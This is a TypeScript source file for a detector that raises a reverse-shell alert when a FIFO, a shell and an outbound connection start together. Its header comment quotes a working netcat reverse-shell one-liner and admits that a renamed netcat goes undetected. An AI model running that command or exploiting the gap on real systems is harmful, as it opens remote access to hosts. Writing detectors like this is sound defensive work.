/**
 * The same parent made a FIFO, started a shell without a script, and a connection, within 5 seconds: what remains of
 * `mkfifo f; cat f | sh -i | nc H P > f` when it is typed at a prompt. Two connections around a shell count too.
 *
 * Blind spot: the parts are known by their names; a renamed netcat is not.
 */
import { z } from "zod";
import { correlator, type Match } from "./detector.ts";
import { isLoopback } from "./knowledge/addresses.ts";
import { belowPackageManager } from "./knowledge/ancestry.ts";
import { playsPart, shellWithConnection } from "./knowledge/sibling-shells.ts";
import { Siblings } from "./knowledge/siblings.ts";

const WINDOW_MS = 5000;

export const reverseShellSiblings = correlator({
  alert: "reverse-shell",
  on: ["process.started"],
  settings: z.object({}),
  memory: () => new Siblings(WINDOW_MS),
  concerns: playsPart,
  step(started, siblings): Match | undefined {
    const found = shellWithConnection(siblings, started);
    if (!found || found.listens || !found.host || isLoopback(found.host)) return undefined;
    const { process } = started;
    if (belowPackageManager(process)) return undefined;
    return {
      subject: `reverse shell ${found.host}`,
      reason: `a FIFO, a shell and a connection to ${found.host} were started together`,
      evidence: { process, container: process.container, destination: { hostname: found.host, port: found.port } },
    };
  },
});
